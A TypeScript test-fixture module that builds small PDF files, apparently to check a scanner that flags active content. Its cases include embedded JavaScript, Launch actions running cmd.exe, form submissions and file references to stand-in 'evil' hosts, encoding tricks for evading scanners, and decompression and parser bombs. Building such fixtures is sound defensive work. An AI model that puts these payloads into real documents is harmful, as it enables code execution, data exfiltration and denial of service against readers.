import { deflateSync } from 'node:zlib'
import {
  appended,
  ascii85,
  asciiHex,
  lzw,
  objectBytes,
  objectStream,
  onePage,
  runLength,
  upPredicted,
  withPackedTable,
  withTable,
} from './pdf-maker.ts'

const script = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>'
const packed = (...how: Parameters<typeof objectStream> extends [unknown, ...infer Rest] ? Rest : never) =>
  onePage('', { 8: objectStream({ 9: script }, ...how) })
const link = (action: string) => onePage('', { 4: `<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A ${action} >>` })
const field = (action: string) =>
  onePage('/AcroForm << /Fields [4 0 R] >>', { 4: `<< /FT /Btn /T (a) /A ${action} >>` })
const both = (plain: Buffer) => deflateSync(deflateSync(plain))
const replaced = (file: Buffer, from: string | RegExp, to: string) =>
  Buffer.from(
    file.toString('latin1').replace(from, () => to),
    'latin1',
  )

/** What carries something that acts, and the words that say what. */
export const carriers: Readonly<Record<string, [Buffer, RegExp]>> = {
  'a script in the names': [onePage(`/Names << /JavaScript << /Names [(a) ${script}] >> >>`), /JavaScript/],
  'a script of a link': [link(script), /JavaScript/],
  'a script in an odd spelling': [link('<< /S /Jav#61Script /#4a#53 (x) >>'), /JavaScript/],
  'a script that is a stream': [
    onePage('', { 4: { dict: '', data: 'x' }, 5: '<< /S /JavaScript /JS 4 0 R >>' }),
    /JavaScript/,
  ],
  'a kind that is elsewhere': [onePage('', { 4: '<< /S 5 0 R /X 1 >>', 5: '/JavaScript' }), /JavaScript/],
  'a kind at the end of a chain': [onePage('', { 4: '<< /S 5 0 R >>', 5: '6 0 R', 6: '/Launch' }), /avvio/],
  'a kind that a later revision changes': [
    appended(onePage('', { 4: '<< /S 5 0 R >>', 5: '/GoTo' }), { 5: '/Launch' }),
    /avvio/,
  ],
  'a kind that an earlier revision had': [
    appended(onePage('', { 4: '<< /S 5 0 R >>', 5: '/Launch' }), { 5: '/GoTo' }),
    /avvio/,
  ],
  'a key that is there twice': [link('<< /S /GoTo /D [3 0 R /Fit] /S /Launch >>'), /avvio/],
  'a key that is there twice, the other way': [link('<< /S /Launch /S /GoTo >>'), /avvio/],
  'a comment inside an action': [link('<< /S % nothing here\n/Launch >>'), /avvio/],
  'no blanks at all': [onePage('', { 4: '<</S/Launch/F(a)>>' }), /avvio/],
  'an object that nothing refers to': [onePage('', { 40: script }), /JavaScript/],
  'an object of the first revision': [appended(onePage('', { 4: script }), { 4: '<< >>' }), /JavaScript/],
  'an object that a later revision brings': [appended(onePage(), { 4: script }), /JavaScript/],
  'a program': [link('<< /S /Launch /F (cmd.exe) >>'), /avvio/],
  'a program for Windows': [link('<< /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>'), /avvio/],
  'a form that is sent': [field('<< /S /SubmitForm /F (http://evil.test) >>'), /invia/],
  'data that are read': [field('<< /S /ImportData /F (\\\\\\\\evil\\\\x.fdf) >>'), /invia/],
  'another file': [link('<< /S /GoToR /F (\\\\\\\\evil.test\\\\share\\\\a.pdf) /D [0 /Fit] >>'), /altro file/],
  'another file by a dictionary': [link('<< /S /GoToR /F << /Type /Filespec /UF (file://x) >> >>'), /altro file/],
  'an embedded target': [link('<< /S /GoToE /T << /R /C /N (a) >> >>'), /altro file/],
  'a thread in another file': [link('<< /S /Thread /F (a.pdf) /D 0 >>'), /altro file/],
  'a file under a reference': [onePage('', { 4: '<< /S /Thread /F 7 0 R >>', 7: '(a.pdf)' }), /altro file/],
  'an action at the opening': [onePage('/OpenAction << /S /URI /URI (http://evil.test) >>'), /apertura/],
  'an action at the opening, elsewhere': [
    onePage('/OpenAction 4 0 R', { 4: '<< /S /Named /N /NextPage >>' }),
    /apertura/,
  ],
  'an opening that goes on': [
    onePage('/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next << /S /URI /URI (http://evil.test) >> >>'),
    /apertura/,
  ],
  'automatic actions of the document': [onePage('/AA << /WC 5 0 R >>'), /automatiche/],
  'automatic actions of a page': [onePage('', { 4: '<< /Type /Page /AA << /O << /S /GoTo >> >> >>' }), /automatiche/],
  'automatic actions in an odd spelling': [onePage('/#41A << /O 5 0 R >>'), /automatiche/],
  'a script address': [link('<< /S /URI /URI (javascript:alert\\(1\\)) >>'), /collegamento/],
  'a file address': [link('<< /S /URI /URI (file:///etc/passwd) >>'), /collegamento/],
  'an address that is a share': [link('<< /S /URI /URI (\\\\\\\\evil\\\\a) >>'), /collegamento/],
  'an address in digits': [link(`<< /S /URI /URI <${Buffer.from('javascript:x').toString('hex')}> >>`), /collegamento/],
  'an address in octal': [link('<< /S /URI /URI (\\152avascript:x) >>'), /collegamento/],
  'an address elsewhere': [onePage('', { 4: '<< /S /URI /URI 5 0 R >>', 5: '(data:text/html,x)' }), /collegamento/],
  'a base for addresses': [onePage('/URI << /Base (file:///) >>'), /collegamento/],
  'attached files': [onePage('/Names << /EmbeddedFiles 7 0 R >>'), /allegati/],
  'an attached file': [onePage('', { 4: { dict: '/Type /EmbeddedFile', data: 'MZ' } }), /allegati/],
  'a file in a note': [onePage('', { 4: '<< /Subtype /FileAttachment /FS 5 0 R >>' }), /allegati/],
  'a file beside the text': [onePage('', { 4: '<< /UF (a) /EF << /UF 5 0 R >> >>' }), /allegati/],
  'a film': [onePage('', { 4: '<< /Subtype /RichMedia /RichMediaContent 5 0 R >>' }), /multimediali/],
  'a sound': [link('<< /S /Sound /Sound 5 0 R >>'), /multimediali/],
  'a rendition': [link('<< /S /Rendition /OP 0 >>'), /multimediali/],
  'a screen': [onePage('', { 4: '<< /Type /Annot /Subtype /Screen >>' }), /multimediali/],
  'a form of the other kind': [onePage('/AcroForm << /XFA [(template) 5 0 R] >>'), /XFA/],
  'code for printers': [onePage('', { 4: { dict: '/Type /XObject /Subtype /PS', data: '%!' } }), /PostScript/],
  'a stream that is elsewhere': [onePage('', { 4: { dict: '/F (\\\\\\\\evil\\\\x)', data: '' } }), /altro file/],
  'a reference to another paper': [
    onePage('', { 4: { dict: '/Type /XObject /Subtype /Form /Ref << /F (a.pdf) /Page 0 >>', data: '' } }),
    /altro file/,
  ],
  'an unknown action': [link('<< /Type /Action /S /Nuova >>'), /sconosciuta/],
  'a command of the program': [link('<< /S /Named /N /SaveAs >>'), /sconosciuta/],
  'a password': [onePage('', { 9: '<< /Filter /Standard /V 1 >>' }, '/Encrypt 9 0 R'), /protetto/],
  'a password in a packed table': [withPackedTable('', {}, '/Encrypt << /Filter /Standard >>'), /protetto/],
  'a packed object': [packed(), /JavaScript/],
  'a packed object under a short name': [packed(deflateSync, '/Filter /Fl'), /JavaScript/],
  'an object packed twice': [packed(both, '/Filter [/FlateDecode /Fl]'), /JavaScript/],
  'an object in base 85': [packed(ascii85, '/Filter /A85'), /JavaScript/],
  'an object in digits': [packed(asciiHex, '/Filter [/AHx]'), /JavaScript/],
  'an object in runs': [packed(runLength, '/Filter /RL'), /JavaScript/],
  'an object in LZW': [packed(lzw, '/Filter /LZWDecode'), /JavaScript/],
  'an object in base 85, deflated': [packed(plain => ascii85(deflateSync(plain)), '/Filter [/A85 /Fl]'), /JavaScript/],
  'an object that is not packed at all': [packed(plain => plain, ''), /JavaScript/],
  'an object behind a predictor': [
    packed(
      plain => deflateSync(upPredicted(Buffer.concat([plain, Buffer.alloc(10 - (plain.length % 10), ' ')]), 10)),
      '/Filter /FlateDecode /DecodeParms << /Predictor 12 /Columns 10 >>',
    ),
    /JavaScript/,
  ],
  'a packed object without its type': [packed(deflateSync, '/Filter /FlateDecode', ''), /JavaScript/],
  'a packed object whose type is elsewhere': [
    onePage('', { 7: '/ObjStm', 8: objectStream({ 9: script }, deflateSync, '/Filter /FlateDecode', '/Type 7 0 R') }),
    /JavaScript/,
  ],
  'a filter that is elsewhere': [
    onePage('', { 7: '/FlateDecode', 8: objectStream({ 9: script }, deflateSync, '/Filter 7 0 R') }),
    /JavaScript/,
  ],
  'a filter that is packed itself': [
    onePage('', {
      8: objectStream({ 9: script }, deflateSync, '/Filter 7 0 R'),
      6: objectStream({ 7: '/FlateDecode' }),
    }),
    /JavaScript|controllare/,
  ],
  'a packed object under a packed table': [withPackedTable('/OpenAction 4 0 R', { 4: script }), /apertura/],
  'a hybrid file': [onePage('', { 8: objectStream({ 9: script }) }, '/XRefStm 20'), /JavaScript|controllare/],
}

/** What cannot be read in one way only. */
export const riddles: Readonly<Record<string, Buffer>> = {
  'an object inside a stream': onePage('', { 4: { dict: '', data: '9 0 obj\n<< >>\nendobj' } }),
  'an object inside a string': onePage('', { 4: '(9 0 obj << >> endobj)' }),
  'an object inside a comment': onePage('', { 4: '1 % 9 0 obj << >> endobj' }),
  'a trailer inside a stream': onePage('', { 4: { dict: '', data: 'trailer << /Root 9 0 R >>' } }),
  'a table that points into a string': replaced(
    onePage('', { 4: '(9 %\n0 %\nobj << >> )' }),
    /startxref\n\d+/,
    `startxref\n${onePage('', { 4: '(9 %\n0 %\nobj << >> )' }).indexOf('9 %')}`,
  ),
  'something between the objects': replaced(onePage(), '2 0 obj', '<< /AA 1 >>\n2 0 obj'),
  'a word that nobody knows': onePage('', { 4: 'evil' }),
  'a dictionary without an end': onePage('/X << /S /GoTo'),
  'a string without an end': onePage('', { 4: '(abc' }),
  'a name with a NUL': onePage('/JS#00 1'),
  'a packed object of another length': onePage('', {
    8: { ...objectStream({ 9: '<< >>' }, plain => plain, ''), length: '5' },
  }),
  'a stream that says to be longer': onePage('', { 8: { ...objectStream({ 9: '<< >>' }), length: '9999' } }),
  'a stream without a length': replaced(onePage('', { 8: objectStream({ 9: '<< >>' }) }), /\/Length \d+/, ''),
  'two lengths at once': appended(onePage('', { 7: '10', 8: { ...objectStream({ 9: '1' }), length: '7 0 R' } }), {
    7: '11',
  }),
  'a type that is nowhere': onePage('', { 8: { dict: '/Type 77 0 R', data: 'x' } }),
  'a kind that is nowhere': onePage('', { 8: '<< /S 77 0 R >>' }),
  'references in a circle': onePage('', { 8: '<< /S 9 0 R >>', 9: '10 0 R', 10: '9 0 R' }),
  'an unknown filter': onePage('', { 8: objectStream({ 9: '<< >>' }, plain => plain, '/Filter /Segreto') }),
  'a filter of pictures': onePage('', { 8: objectStream({ 9: '<< >>' }, plain => plain, '/Filter /DCTDecode') }),
  'what cannot be inflated': onePage('', { 8: objectStream({ 9: '<< >>' }, plain => plain) }),
  'more objects than are told of': onePage('', {
    8: { dict: '/Type /ObjStm /N 1 /First 4', data: '9 0 << >> << /S /Launch >>' },
  }),
  'objects in another place': onePage('', { 8: { dict: '/Type /ObjStm /N 1 /First 4', data: '9 6 << >> << >>' } }),
  'a packed table that speaks of another object': replaced(
    withPackedTable(),
    /\/Index \[1 1 2 1 3 1/,
    '/Index [1 1 2 1 4 1',
  ),
  'no catalog': withTable({ 2: '<< /Type /Pages >>' }),
}

const zeros = (megabytes: number) => deflateSync(Buffer.alloc(megabytes * 1024 * 1024, ' '), { level: 9 })
const packedZeros = (megabytes: number) => ({
  dict: '/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode',
  data: zeros(megabytes),
})

/** Small files that want much. */
export const bombs: Readonly<Record<string, () => Buffer>> = {
  'a stream of 60 MiB': () => onePage('', { 8: packedZeros(60) }),
  'a stream of 60 MiB, packed twice': () =>
    onePage('', {
      8: { dict: '/Type /ObjStm /N 1 /First 4 /Filter [/Fl /Fl]', data: deflateSync(zeros(60)) },
    }),
  'many streams of 9 MiB': () =>
    onePage('', Object.fromEntries([8, 9, 10, 11].map(number => [number, packedZeros(9)]))),
  'a hundred filters': () =>
    onePage('', {
      8: { ...objectStream({ 9: '1' }), dict: `/Type /ObjStm /N 1 /First 4 /Filter [${'/AHx '.repeat(100)}]` },
    }),
  'a million arrays in each other': () => onePage('', { 8: '['.repeat(1_000_000) }),
  'millions of packed numbers': () => onePage('', { 8: objectStream({ 9: `[${'1 '.repeat(4_000_000)}]` }) }),
  'a thousand million objects': () =>
    onePage('', { 8: { dict: '/Type /ObjStm /N 999999999 /First 4', data: '9 0 1' } }),
  'rows of a thousand million': () =>
    onePage('', {
      8: objectStream({ 9: '1' }, deflateSync, '/Filter /Fl /DecodeParms << /Predictor 12 /Columns 999999999 >>'),
    }),
  'a table of a thousand million': () => replaced(withPackedTable(), '/Index [', '/Index [5 999999999 '),
  'a table whose rows are empty': () => replaced(withPackedTable(), '/W [1 2 1]', '/W [0 0 0]'),
  'references that branch at each step': () =>
    Buffer.concat([
      onePage('', { 9: '<< /S 10 0 R >>' }),
      ...Array.from({ length: 60 }, () =>
        Buffer.concat([10, 11, 12, 13, 14, 15].map(n => objectBytes(n, n === 15 ? '/GoTo' : `${n + 1} 0 R`))),
      ),
      Buffer.from('%%EOF\n'),
    ]),
  'ten megabytes of digits': () => replaced(onePage(), '%%EOF', `%${'1'.repeat(9_000_000)} 0 obj\n%%EOF`),
  'ten megabytes of blanks that a table points into': () => {
    const blanks = ' '.repeat(4_000_000)
    const lines = Array.from({ length: 100_000 }, (_, index) => `${String(100 + index).padStart(10, '0')} 00000 n \n`)
    return Buffer.from(
      `%PDF-1.7\n${blanks}1 0 obj\n<< >>\nendobj\nxref\n0 100000\n${lines.join('')}trailer\n<< /Root 1 0 R >>\nstartxref\n0\n%%EOF\n`,
      'latin1',
    )
  },
  'LZW that grows': () => {
    const codes = Array.from({ length: 500_000 }, () => 0xff)
    return onePage('', { 8: { dict: '/Type /ObjStm /N 1 /First 4 /Filter /LZW', data: Buffer.from(codes) } })
  },
}
